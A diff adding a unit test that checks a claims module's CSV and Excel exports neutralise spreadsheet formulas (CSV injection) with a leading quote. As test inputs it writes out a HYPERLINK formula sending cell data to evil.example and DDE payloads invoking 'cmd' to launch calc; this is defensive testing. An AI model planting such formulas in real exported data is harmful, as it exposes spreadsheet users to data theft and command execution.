@@ -148,3 +148,84 @@ class TestClaimExport(ClaimCommon):
         # a claim the user may not read cannot be selected for the export
         with self.assertRaises(AccessError):
             self._export(own | foreign, user=self.claim_user)
+
+    def test_formulas_are_neutralised(self):
+        """Text a spreadsheet would run as a formula (CSV injection) gets a
+        leading quote in both formats; numbers stay numbers."""
+        formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+        evil = self.env["res.partner"].create({"name": formula})
+        claim = self._create_claim(
+            partner_id=evil.id,
+            lines=[(self.product_a, 2.0, 100.0)],
+            tag_ids=[self.env["claim.tag"].create({"name": "+1+cmd|' /C calc'!A0"}).id],
+        )
+        claim.line_ids.decision_note = "@SUM(1+1)*cmd|' /C calc'!A0"
+        claim.reason_id = self.env["claim.reason"].create({"name": "-2+3"})
+        # names are trimmed; notes keep a leading tab or carriage return
+        other = self._create_claim(
+            lines=[(self.product_a, 1.0, 10.0), (self.product_b, 1.0, 10.0)]
+        )
+        other.line_ids.filtered(lambda li: li.product_id == self.product_a).write(
+            {"decision_note": "\tTabbed"}
+        )
+        other.line_ids.filtered(lambda li: li.product_id == self.product_b).write(
+            {"decision_note": "\rReturn"}
+        )
+        expected = {
+            "Customer": f"'{formula}",
+            "Tags": "'+1+cmd|' /C calc'!A0",
+            "Reason": "'-2+3",
+            "Decision Note": "'@SUM(1+1)*cmd|' /C calc'!A0",
+        }
+
+        # the export drops the cache between batches: write the values first
+        self.env.flush_all()
+        content = self._export(claim | other, file_format="csv")
+        rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
+        records = {
+            (row[0], row[rows[0].index("Product")]): dict(
+                zip(rows[0], row, strict=True)
+            )
+            for row in rows[1:]
+        }
+        record = records[(claim.name, "Office Chair")]
+        for column, value in expected.items():
+            self.assertEqual(record[column], value, column)
+        self.assertEqual(float(record["Quantity"]), 2.0)
+        self.assertEqual(
+            records[(other.name, "Office Chair")]["Decision Note"], "'\tTabbed"
+        )
+        self.assertEqual(
+            records[(other.name, "Desk Lamp")]["Decision Note"], "'\rReturn"
+        )
+
+        content = self._export(claim | other)
+        workbook = openpyxl.load_workbook(io.BytesIO(content))
+        claims_sheet, lines_sheet = workbook["Claims"], workbook["Lines"]
+        header = [cell.value for cell in claims_sheet[1]]
+        by_number = {
+            row[0].value: dict(zip(header, row, strict=True))
+            for row in claims_sheet.iter_rows(min_row=2)
+        }
+        cells = by_number[claim.name]
+        for column in ("Customer", "Tags", "Reason"):
+            self.assertEqual(cells[column].value, expected[column], column)
+            self.assertEqual(cells[column].data_type, "s", column)
+        self.assertEqual(cells["Value Claimed"].value, 200.0)
+        self.assertEqual(cells["Value Claimed"].data_type, "n")
+        line_header = [cell.value for cell in lines_sheet[1]]
+        line_rows = [
+            dict(zip(line_header, row, strict=True))
+            for row in lines_sheet.iter_rows(min_row=2)
+        ]
+        line_cells = next(r for r in line_rows if r["Claim"].value == claim.name)
+        self.assertEqual(line_cells["Decision Note"].value, expected["Decision Note"])
+        self.assertEqual(line_cells["Decision Note"].data_type, "s")
+        self.assertEqual(line_cells["Quantity"].value, 2.0)
+        notes = sorted(
+            r["Decision Note"].value
+            for r in line_rows
+            if r["Claim"].value == other.name
+        )
+        # a carriage return is stored escaped (_x000D_) in the XML
+        self.assertEqual([note[:2] for note in notes], ["'\t", "'_"])
